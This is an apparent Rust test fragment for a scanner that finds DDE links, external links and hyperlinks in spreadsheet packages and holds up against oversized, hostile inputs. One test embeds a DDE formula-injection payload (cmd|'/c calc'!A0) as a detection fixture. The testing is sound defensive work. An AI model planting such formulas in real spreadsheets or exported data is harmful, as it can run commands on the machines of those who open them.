    assert_eq!(link.used_by.last().unwrap(), "and 500 more");
}

#[test]
fn a_sheet_without_links_keeps_nothing() {
    let cells = "<c><f>SUM(A1:A3)*2</f><v>1</v></c>".repeat(100_000);
    let mut package = Package::new().sheet(&format!("<row>{cells}</row>"));
    package.limits.live_bytes = 4_096;
    assert!(package.links().is_empty());
}

#[test]
fn long_formulas_are_scanned_whole_or_reported() {
    let long = format!("{}+cmd|'/c calc'!A0", "A1+".repeat(200_000));
    let link = Package::new().workbook(&[], "").cell(&long).only();
    assert_eq!(triple(&link), "cmd|/c calc!A0");
    assert_eq!(link.raw, "cmd|'/c calc'!A0");

    let mut package = Package::new().workbook(&[], "").cell(&long);
    package.limits.live_bytes = 100_000;
    let given = package.read();
    assert_eq!(given.stopped, Some(Exhausted::Limit(Limit::LiveBytes)));
    assert!(!given.left);
}

#[test]
fn hostile_counts_end() {
    let junk = format!("={}", "|".repeat(120_000));
    assert!(
        Package::new()
            .workbook(&[], "")
            .cell(&junk)
            .links()
            .is_empty()
    );
    // Every link copies its topic: a long topic with many items is one link and a rest.
    let items = "<ddeItem name='x'/>".repeat(10_000);
    let topic = "t".repeat(1 << 20);
    let links = Package::new()
        .link_part(
            EXTERNAL,
            &format!("<ddeLink ddeService='s' ddeTopic='{topic}'>{items}</ddeLink>"),
        )
        .links();
    assert!(links.len() <= 17, "{}", links.len());
    assert!(links.last().unwrap().raw.ends_with("more items"));
    let links = "<c><f>HYPERLINK(\"http://x/{}\")</f></c>";
    let cells: String = (0..2_000)
        .map(|n| links.replace("{}", &n.to_string()))
        .collect();
    let links = Package::new().sheet(&cells).links();
    assert_eq!(links.len(), 1_001);
    assert_eq!(links.last().unwrap().raw, "1000 more hyperlinks to the web");
}
